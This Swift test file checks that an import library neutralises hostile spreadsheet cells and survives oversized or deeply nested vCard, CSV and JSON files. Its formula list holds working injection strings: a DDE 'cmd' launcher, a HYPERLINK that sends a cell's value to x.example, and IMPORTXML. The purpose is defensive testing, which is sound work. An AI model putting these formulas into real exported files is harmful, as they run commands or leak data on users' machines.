import Foundation
import HubKit
import Testing

@testable import HubFormats

/// Files that were made to do harm. Sizes are small enough for every run; `.ci/faults/bombs.py` drops
/// the large ones on the program itself and looks at time and memory.
@Suite struct ThreatTests {
  // MARK: Formulas

  private static func hostileCells() -> [String] {
    let starts = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'=", "''@"]
    let rests = [
      "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example?\"&A1,\"x\")", "SUM(A1:A9)",
      "2+5+cmd|' /C calc'!A0", "", "'", "\"", ",=1", ";=1", "\n=1", "\r\n@x", "49 1 2 3 4 5 6 7-1",
      "49123456789*1", " 12345678", "1e400", "\u{feff}=1", "IMPORTXML(A1)", "%0A", "=",
    ]
    return starts.flatMap { start in rests.map { start + $0 } }
  }

  @Test("T3: 200 hostile cells are no formulas in a table, and come back as they were")
  func formulas() throws {
    let cells = Self.hostileCells()
    #expect(cells.count >= 200)
    let bytes = CSV.encode(columns: ["=name", "notes"], rows: cells.map { ["A", $0] })
    var reader = CSVReader(bytes, delimiter: 0x2C)
    var read: [String] = []
    while let row = reader.next() {
      for cell in row.cells {
        let text = String(decoding: cell, as: UTF8.self)
        let first = text.unicodeScalars.first { $0 != "'" } ?? "'"
        let isDanger = "=+-@\t\r\n＝＋－＠".unicodeScalars.contains(first)
        #expect(!isDanger || text.hasPrefix("'"), "\(text.debugDescription)")
      }
      read.append(CSV.unguarded(String(decoding: row.cells[1], as: UTF8.self)))
    }
    #expect(read == ["notes"] + cells)
  }

  @Test(
    "T3: a telephone number is no formula, and what only begins like one is",
    arguments: [
      ("+49 30 1234567", true), ("+390151234567", true), ("+12345", false), ("+49  30 1234", false),
      ("+49 30 1234567+1", false), ("-49301234567", false), ("+49(30)1234567", false),
      ("+49 30 123456 ", false),
    ])
  func phones(cell: String, isPlain: Bool) {
    #expect((CSV.guarded(cell) == cell) == isPlain)
    #expect(CSV.unguarded(CSV.guarded(cell)) == cell)
  }

  // MARK: Bombs

  @Test("T5: what is too large or too deep is refused by name, and the rest is kept")
  func bombs() throws {
    let good = "BEGIN:VCARD\nFN:Good\nEND:VCARD\n"
    func card(_ body: String) throws -> DecodedFile {
      try VCard.decode(("BEGIN:VCARD\nFN:Bad\n" + body + "END:VCARD\n" + good).bytes)
    }
    let bad = [
      "PHOTO;ENCODING=b:" + String(repeating: "A", count: 5 << 20) + "\n",
      "PHOTO;ENCODING=b:" + String(repeating: "AAAA\n ", count: 1 << 20) + "\n",
      String(repeating: "BEGIN:X\n", count: 20_000),
      String(repeating: "EMAIL:a@b.example\n", count: 20_000),
    ]
    for body in bad {
      let file = try card(body)
      #expect(file.records.map { $0.text("name") } == ["Good"])
      #expect(file.skipped.map(\.line) == [1])
    }
    let wide = try card("NOTE" + String(repeating: ";A=1", count: 300_000) + ":x\n")
    #expect(wide.remarks.map(\.notice.key) == ["import.problem.longLine"])
    #expect(wide.remarks.map(\.line) == [3])
  }

  @Test(
    "T5: a table whose first row is endless is no table; a row that is, is left out by its line")
  func tables() throws {
    let long = String(repeating: "a", count: 5 << 20)
    #expect(throws: Notice.self) { try CSV.decode(long.bytes) }
    let file = try CSV.decode("name,notes\nAna,x\nBo,\(long)\nCy,y\n".bytes)
    #expect(file.records.map { $0.text("name") } == ["Ana", "Cy"])
    #expect(file.skipped.map(\.line) == [3])
    let emails = String(repeating: "a@b.example ", count: 5000)
    let many = try CSV.decode("name,email\nAna,\(emails)\nBo,b@b.example\n".bytes)
    #expect(many.records.map { $0.text("name") } == ["Bo"])
    #expect(many.skipped.map(\.notice.key) == ["import.problem.tooLarge"])
  }

  @Test("T5: of a file of nothing but problems as many are kept as anybody reads, and all counted")
  func problems() throws {
    let count = DecodedFile.mostProblems + 500
    let cards = String(repeating: "BEGIN:VCARD\nEND:VCARD\n", count: count)
    let rows = "name,email\n" + String(repeating: ",x\n", count: count)
    let hub =
      "{\"format\":\"hubwright-hub-1\",\"records\":[" + String(repeating: "1,", count: count - 1)
      + "1]}"
    for (format, text) in [("vcard", cards), ("csv", rows), ("hub", hub)] {
      let file = try Codec.decode(text.bytes, format: format)
      #expect(file.skippedCount == count && file.read == count)
      #expect(file.skipped.count == DecodedFile.mostProblems && file.omitted == 500)
    }
  }

  @Test("T5: more records than any town has are refused")
  func records() {
    let rows = "name\n" + String(repeating: "\"\"\n", count: 10)
    #expect(throws: Never.self) { try CSV.decode(rows.bytes) }
    var file = DecodedFile(format: "csv", read: DecodedFile.mostRecords - 1)
    #expect(throws: Never.self) { try file.count() }
    #expect(throws: Notice.self) { try file.count() }
    // Told before anything is made of them: a million records take their time.
    let many = Array("name\n\"".utf8) + (0...DecodedFile.mostRecords).flatMap { _ in [0x61, 0x0A] }
    #expect(throws: Notice("import.tooMany", ["n": "1000000"])) {
      _ = try CSV.source(many, kind: "person", catalogue: .standard, mapping: [:])
    }
  }

  @Test("T12: numbers without measure and nests without end are told, in every format")
  func overflow() throws {
    let numbers = [
      "99999999999999999999", "-9223372036854775809", "1e400",
      String(repeating: "9", count: 100_000),
      "0x7fffffffffffffff", "١٢", "9223372036854775807",
    ]
    for number in numbers {
      let table = try CSV.decode("name,ring\nAna,\(number)\n".bytes)
      #expect(table.remarks.map(\.field) == ["ring"])
      for json in [number, "\"\(number)\""] {
        let text =
          "{\"format\":\"hubwright-hub-1\",\"records\":[{\"kind\":\"person\",\"id\":"
          + "\"01ARZ3NDEKTSV4RRFFQ69G5FAV\",\"fields\":{\"name\":\"A\",\"source\":\"s\",\"ring\":\(json)}}]}"
        let file = try? HubJSON.decode(text.bytes)
        #expect(file?.records.first?.fields["ring"] == nil)
      }
      _ = try VCard.decode("BEGIN:VCARD\nFN:A\nBDAY:\(number)\nREV:\(number)\nEND:VCARD\n".bytes)
    }
    for (open, count) in [("[", 1 << 20), ("{\"a\":", 1 << 18), ("[[{\"a\":", 1 << 17)] {
      #expect(throws: Notice.self) {
        try HubJSON.decode(String(repeating: open, count: count).bytes)
      }
    }
    let nest = String(repeating: "BEGIN:A\n", count: 100_000)
    let ends = String(repeating: "END:A\n", count: 100_000)
    let file = try VCard.decode("BEGIN:VCARD\nFN:A\n\(nest)\(ends)END:VCARD\n".bytes)
    #expect(file.skipped.map(\.notice.key) == ["import.problem.depth"])
  }
}
